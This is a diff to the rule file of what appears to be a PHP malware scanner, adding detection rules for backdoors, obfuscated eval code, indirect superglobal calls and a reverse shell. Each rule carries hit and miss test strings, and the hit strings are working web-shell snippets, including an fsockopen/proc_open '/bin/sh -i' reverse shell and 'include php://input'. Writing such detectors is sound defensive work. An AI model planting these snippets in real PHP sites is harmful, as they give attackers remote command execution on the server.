@@ -66,7 +66,7 @@ export const FACT_RULES: readonly Rule[] = [
     ...MALICIOUS,
     id: 'php-packed-code',
     family: 'obfuscated',
-    when: [{ fact: 'code<-decoded' }, { fact: 'layer:code' }, looksBad(-1)],
+    when: [{ fact: 'code<-decoded' }, { fact: 'layer:code' }, looksBad(-9)],
     hit: [`eval(gzinflate(base64_decode('K64sLknN1VBQiVYqLskvys9OVIrVtAYA')));`],
     miss: [`echo base64_decode('c3RvaWth');`],
   },
@@ -90,9 +90,62 @@ export const FACT_RULES: readonly Rule[] = [
     ...MALICIOUS,
     id: 'php-request-call',
     family: 'backdoor',
-    when: [{ fact: 'call<-request' }, { fact: 'argument<-request' }, looksBad(2)],
-    hit: [`$_GET['stoika']($_POST['argument']);`],
-    miss: [`$handlers[$name]($request);`],
+    when: [{ fact: 'both<-request' }],
+    hit: [`$_GET['stoika']($_POST['argument']);`, `$f = $_GET['f']; echo @$f(trim($_GET['x']));`],
+    miss: [`$handlers[$name]($request);`, `$page = new $_GET['page']($_GET['id']);`],
+  },
+  {
+    ...MALICIOUS,
+    id: 'php-request-callback',
+    family: 'backdoor',
+    when: [{ fact: 'callback<-request' }, { fact: 'argument<-request' }],
+    hit: [`array_map($_GET['f'], array($_GET['x'])); $g = $_GET['g']; $g($_GET['y'] . '');`],
+    miss: [`array_map('trim', $_POST);`],
+  },
+  {
+    ...MALICIOUS,
+    id: 'php-request-variables',
+    family: 'backdoor',
+    when: [{ fact: 'variables<-request' }, { fact: 'argument<-request' }, looksBad(-5)],
+    hit: [`foreach ($_POST as $k => $v) { $$k = $v; } $stoika($v);`],
+    miss: [`extract($_POST); echo htmlspecialchars($name);`],
+  },
+  {
+    ...MALICIOUS,
+    id: 'php-indirect-code',
+    family: 'obfuscated',
+    when: [{ fact: 'code<-indirect' }],
+    hit: [`eval(\${'_' . 'POST'}['stoika']);`, `$g = '_G' . 'ET'; eval($$g['stoika']);`],
+    miss: [`$total = 'sum'; echo $$total;`],
+  },
+  {
+    ...MALICIOUS,
+    id: 'php-indirect-shell',
+    family: 'obfuscated',
+    when: [{ fact: 'shell<-indirect' }],
+    hit: [`system(\${'_' . 'POST'}['stoika']);`],
+    miss: [`$total = 'sum'; echo $$total;`],
+  },
+  {
+    ...MALICIOUS,
+    id: 'php-indirect-call',
+    family: 'obfuscated',
+    when: [{ fact: 'call<-indirect' }, looksBad(-4)],
+    hit: [`\${'_' . $_}['_'](\${'_' . $_}['__']);`],
+    miss: [`$type = 'render'; $this->$type($text);`],
+  },
+  {
+    ...MALICIOUS,
+    id: 'php-reverse-shell',
+    family: 'shell',
+    when: [
+      { feature: 'word:fsockopen', atLeast: 1 },
+      { feature: 'word:proc_open', atLeast: 1 },
+      { literals: ['/bin/sh', '/bin/bash', 'cmd.exe', 'sh -i'], atLeast: 1 },
+      looksBad(0),
+    ],
+    hit: [`$s = fsockopen($ip, $port); $p = proc_open('/bin/sh -i', array($s, $s, $s), $pipes);`],
+    miss: [`$p = proc_open('/usr/bin/convert a.png b.png', $spec, $pipes);`],
   },
   {
     ...MALICIOUS,
@@ -109,6 +162,22 @@ export const FACT_RULES: readonly Rule[] = [
     when: [{ fact: 'include<-request' }, looksBad(3.5)],
     hit: [`@include($_GET['stoika']); @system($_GET['x']);`],
     miss: [`include __DIR__ . '/pages/' . basename($page) . '.php';`],
+  },
+  {
+    ...MALICIOUS,
+    id: 'php-layered-shell',
+    family: 'obfuscated',
+    when: [{ fact: 'layer:shell' }],
+    hit: [`$c = 'system($_GET[0]);'; eval($c);`],
+    miss: [`$c = 'strlen($_GET[0]);'; eval($c);`],
+  },
+  {
+    ...MALICIOUS,
+    id: 'php-included-request',
+    family: 'backdoor',
+    when: [{ fact: 'hidden:include' }],
+    hit: [`include 'php://input';`],
+    miss: [`$body = file_get_contents('php://input'); include 'form.php';`],
   },
   {
     ...MALICIOUS,
@@ -187,4 +256,4 @@ export const ALERT_RULES: readonly Rule[] = [
 
 export const STANDARD_RULES: readonly Rule[] = [...FACT_RULES, ...ALERT_RULES];
 /** Grows with every change of a rule: a verdict is kept no longer than the rules that gave it. */
-export const STANDARD_VERSION = '2026.11.23-1';
+export const STANDARD_VERSION = '2026.11.23-2';
